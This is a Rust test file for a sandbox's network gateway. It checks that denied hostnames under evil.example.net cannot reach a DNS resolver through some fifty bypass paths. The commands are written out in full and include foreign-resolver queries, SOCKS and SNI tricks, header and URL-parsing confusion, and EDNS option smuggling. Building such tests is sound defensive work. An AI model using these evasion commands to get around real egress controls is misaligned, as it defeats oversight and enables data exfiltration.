//! A name that is not listed never reaches a resolver, by whatever path it is sent. The same list of
//! paths is walked without the gateway as well: there every one of them does reach the resolver.

use crate::support::{self, Ran, finish, node_modules, require, sandbox};
use crate::{assert_nothing_leaked, shared};
use std::time::Duration;

crate::attacks! {
    no_denied_name_reaches_a_resolver_by_any_lookup,
    no_denied_name_reaches_a_resolver_by_any_proxy,
}

/// Every path that a lookup can take: a name for the test, and a shell script; NAME is the name to
/// be looked up. Each must fail or be refused inside; outside each sends the name to a resolver.
const PATHS: &[(&str, &str)] = &[
    ("getaddrinfo", "getent ahosts NAME"),
    ("gethostbyname", "getent hosts NAME"),
    (
        "python",
        "python3 -c 'import socket; socket.getaddrinfo(\"NAME\", 443)'",
    ),
    ("udp", "dig +tries=1 +time=20 NAME"),
    ("tcp", "dig +tcp +tries=1 +time=20 NAME"),
    ("txt", "dig +tries=1 +time=20 NAME TXT"),
    ("https", "dig +tries=1 +time=20 NAME HTTPS"),
    ("case", "dig +tries=1 +time=20 $(echo NAME | tr a-z A-Z)."),
    ("foreign4", "dig +tries=1 +time=20 @8.8.8.8 NAME"),
    (
        "foreign4tcp",
        "dig +tcp +tries=1 +time=20 @198.51.100.8 NAME",
    ),
    ("foreign6", "dig +tries=1 +time=20 @2001:db8:10::53 NAME"),
    (
        "foreign6tcp",
        "dig +tcp +tries=1 +time=20 @2001:db8:10::53 NAME",
    ),
    ("hostresolver", "dig +tries=1 +time=20 @203.0.113.53 NAME"),
    ("nslookup", "nslookup NAME"),
    (
        "edns",
        "dig +tries=1 +time=20 +subnet=192.0.2.0/24 +cookie +nsid NAME",
    ),
    ("noedns", "dig +tries=1 +time=20 +noedns NAME"),
    ("norecurse", "dig +tries=1 +time=20 +norecurse NAME"),
    (
        "resolve4",
        "node -e 'require(\"dns\").resolve4(\"NAME\", () => process.exit())'",
    ),
    (
        "lookup",
        "node -e 'require(\"dns\").lookup(\"NAME\", () => process.exit())'",
    ),
    (
        "nodeserver",
        "node -e 'const r = new (require(\"dns\").Resolver)(); r.setServers([\"8.8.8.8\"]); r.resolve4(\"NAME\", () => process.exit())'",
    ),
    ("curl", "curl -s -m 25 --noproxy '*' http://NAME/"),
    ("nc", "nc -z -w 25 NAME 443"),
    (
        "git",
        "env -u HTTPS_PROXY -u https_proxy git ls-remote https://NAME/repo.git",
    ),
    (
        "raw",
        "python3 -c 'import gate; gate.ask(gate.query(\"NAME\"), \"203.0.113.54\", limit=3)'",
    ),
    (
        "two",
        "python3 -c 'import gate; gate.ask(gate.query(\"api.example.com\", more=gate.question(\"NAME\") + bytes([0, 1, 0, 1]), count=2), \"203.0.113.54\", limit=1)'",
    ),
    (
        "option",
        "python3 -c 'import gate; gate.ask(gate.query(\"api.example.com\", options=gate.option(65001, b\"NAME\")), \"203.0.113.54\", limit=3)'",
    ),
    (
        "update",
        "python3 -c 'import gate; gate.ask(gate.query(\"NAME\", flags=0x2800), \"203.0.113.54\", limit=1)'",
    ),
    ("axfr", "dig +tries=1 +time=20 @203.0.113.53 NAME AXFR"),
];

/// Paths that exist only inside: through the proxies.
const PROXIED: &[(&str, &str)] = &[
    ("connect", "curl -s -m 25 https://NAME/"),
    ("connectport", "curl -s -m 25 -p http://NAME:8080/"),
    ("absolute", "curl -s -m 25 http://NAME/"),
    (
        "host",
        "curl -s -m 25 -H 'Host: NAME' http://api.example.com/",
    ),
    (
        "socks5h",
        "curl -s -m 25 --socks5-hostname 10.0.2.2:1080 https://NAME/",
    ),
    (
        "socks5",
        "curl -s -m 25 --socks5 10.0.2.2:1080 https://NAME/",
    ),
    (
        "socks4a",
        "curl -s -m 25 --socks4a 10.0.2.2:1080 https://NAME/",
    ),
    (
        "sni",
        "openssl s_client -connect api.example.com:443 -servername NAME </dev/null",
    ),
    (
        "snituneled",
        "openssl s_client -proxy 10.0.2.2:3128 -connect api.example.com:443 -servername NAME </dev/null",
    ),
    (
        "directhost",
        "curl -s -m 25 --noproxy '*' -H 'Host: NAME' http://api.example.com/",
    ),
    (
        "dnsbyconnect",
        "python3 -c 'import gate; s, a = gate.connect(\"8.8.8.8:53\"); s.sendall(gate.query(\"NAME\"))'",
    ),
    (
        "dnsbysocks",
        "python3 -c 'import gate; s, a = gate.socks(\"8.8.8.8\", 53); s.sendall(gate.query(\"NAME\"))'",
    ),
    (
        "associate",
        "python3 -c 'import gate; gate.socks(b\"NAME\", 53, 3)'",
    ),
    (
        "userinfo",
        "python3 -c 'import gate; gate.get(\"http://api.example.com@NAME/\")'",
    ),
    (
        "backslash",
        "python3 -c 'import gate; gate.get(\"http://NAME\\\\@api.example.com/\")'",
    ),
    (
        "absolutehost",
        "python3 -c 'import gate; gate.http(\"GET http://api.example.com/ HTTP/1.1\\r\\nHost: NAME\\r\\nConnection: close\\r\\n\\r\\n\")'",
    ),
    (
        "forwarded",
        "curl -s -m 25 -H 'X-Forwarded-Host: NAME' -H 'Forwarded: host=NAME' -H 'Via: 1.1 NAME' http://NAME.api.example.com/",
    ),
    (
        "websocket",
        "curl -s -m 25 -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://NAME/",
    ),
    (
        "fetch",
        "node -e 'fetch(\"https://NAME/\").finally(() => process.exit())'",
    ),
    (
        "ws",
        "node -e 'new (require(\"ws\"))(\"wss://NAME/\").on(\"error\", () => process.exit()).on(\"open\", () => process.exit())'",
    ),
];

fn name_of(path: &str) -> String {
    format!("x.{path}.tunnel.evil.example.net")
}

fn all_in_one(paths: &[(&str, &str)]) -> String {
    let one = |(path, script): &(&str, &str)| {
        format!(
            "( {} ) >/dev/null 2>&1 </dev/null &\n",
            script.replace("NAME", &name_of(path))
        )
    };
    // A few at a time, so that a busy machine does not run into time limits.
    let groups: Vec<String> = paths
        .chunks(8)
        .map(|group| group.iter().map(one).collect())
        .collect();
    groups.join("wait\n") + "wait\n"
}

fn inside(paths: &[(&str, &str)]) -> Ran {
    for program in [
        "getent", "python3", "dig", "nslookup", "node", "curl", "nc", "git", "openssl",
    ] {
        require(program);
    }
    let world = shared::world();
    node_modules(&world);
    let ran = sandbox(&world)
        .allow("api.example.com")
        .limit(Duration::from_secs(120))
        .sh(&all_in_one(paths));
    ran.assert_ok();
    for query in world.dns_log() {
        assert!(
            !query.name.to_ascii_lowercase().contains("evil"),
            "{query:?}"
        );
    }
    assert_nothing_leaked(&world);
    ran
}

fn no_denied_name_reaches_a_resolver_by_any_lookup() {
    let ran = inside(PATHS);
    // Each path was walked to its refusal.
    for (path, _) in PATHS
        .iter()
        .filter(|(path, _)| !["two", "option", "update", "raw"].contains(path))
    {
        let about = ran.records.about(&name_of(path));
        assert!(
            about.iter().any(|record| record["verdict"] == "deny"),
            "no denial by {path}: {ran}"
        );
        assert!(
            about.iter().all(|record| record["layer"] == "dns"),
            "{path}: {ran}"
        );
    }
}

fn no_denied_name_reaches_a_resolver_by_any_proxy() {
    let ran = inside(PROXIED);
    for path in [
        "connect",
        "connectport",
        "absolute",
        "socks5h",
        "sni",
        "snituneled",
        "directhost",
        "websocket",
        "associate",
    ] {
        let about = ran.records.about(&name_of(path));
        assert!(
            about.iter().any(|record| record["verdict"] == "deny"),
            "no denial by {path}: {ran}"
        );
    }
}

#[test]
fn without_the_gateway_each_of_these_paths_does_reach_a_resolver() {
    let world = support::world();
    world.file("gate.py", shared::GATE);
    let done = finish(
        world.command("sh").args(["-c", &all_in_one(PATHS)]),
        Duration::from_secs(120),
    );
    assert!(done.ok(), "{done}");
    let log = world.dns_log();
    for (path, _) in PATHS {
        let there = log.iter().any(|query| {
            let raw = portcullis_testkit::unhex(&query.raw);
            let raw = String::from_utf8_lossy(&raw).to_ascii_lowercase();
            query.name.eq_ignore_ascii_case(&name_of(path))
                || raw.contains(&format!("{path}\u{6}tunnel"))
                || raw.contains(&name_of(path))
        });
        assert!(
            there,
            "the path {path} proves nothing: no such query in the log"
        );
    }
}

#[test]
fn under_audit_the_proxied_paths_do_reach_a_resolver() {
    let world = support::world();
    world.file("gate.py", shared::GATE);
    node_modules(&world);
    let script = all_in_one(PROXIED);
    let ran = sandbox(&world)
        .args(&["--audit"])
        .limit(Duration::from_secs(120))
        .sh(&script);
    ran.assert_ok();
    for path in [
        "connect",
        "connectport",
        "absolute",
        "socks5h",
        "websocket",
        "fetch",
        "ws",
    ] {
        assert!(
            world.times_asked(&name_of(path)) > 0,
            "{path} proves nothing: {ran}"
        );
    }
}
